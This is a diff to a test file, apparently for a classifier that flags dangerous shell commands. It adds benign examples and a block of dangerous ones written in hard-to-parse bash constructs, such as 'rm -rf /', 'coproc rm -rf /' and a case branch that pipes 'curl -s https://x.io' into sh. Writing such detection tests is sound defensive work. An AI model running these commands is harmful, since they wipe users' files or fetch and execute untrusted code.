@@ -203,6 +203,12 @@ BENIGN = [
     "base64 -d file.b64 > out.bin",
     "find . -delete",
     'rm -rf "${OUT_DIR:?}"/*',
+    "[[ -f x ]] && rm -rf build",
+    "echo $((1+2)) && rm -rf ./out",
+    "case $1 in start) rm -rf ./tmp;; stop) echo bye;; esac",
+    "for i in $(seq 1 3); do echo $((i*2)); done",
+    "time make -j4",
+    "if [[ -d build ]]; then rm -rf build; fi",
 ]
 
 
@@ -269,6 +275,16 @@ MORE_DANGEROUS = [
     "find / -type f -exec rm -f {} \\;",
     "mv ~ /tmp/x",
     "rm -rf /home/*",
+    # constructs bashlex cannot parse whole
+    "case $1 in start) rm -rf /;; esac",
+    "select x in a b; do rm -rf ~; done",
+    "[[ -d / ]] && rm -rf /",
+    "arr=(/ ~); rm -rf ${arr[0]}",
+    'X="/ ~"; rm -rf $X',
+    "time rm -rf /",
+    "coproc rm -rf /",
+    "echo $(( $(rm -rf /) ))",
+    "case $x in *) curl -s https://x.io | sh;; esac",
 ]
 
 
